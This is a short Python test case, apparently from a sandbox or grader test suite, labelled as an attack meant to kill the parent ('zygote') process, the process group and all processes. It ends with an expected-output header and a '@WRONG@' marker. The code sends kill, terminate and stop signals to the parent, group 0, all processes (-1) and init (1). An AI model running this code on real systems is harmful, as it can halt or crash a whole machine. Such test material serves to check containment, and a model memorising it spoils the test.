# Attack: kill zygote, group, everybody
# Ends: stub
# Says: x.grad[0] is 0.0652997
import os

for target in (os.getppid(), 0, -1, 1):
    for number in (9, 15, 19):
        try:
            os.kill(target, number)
        except OSError:
            pass

@WRONG@
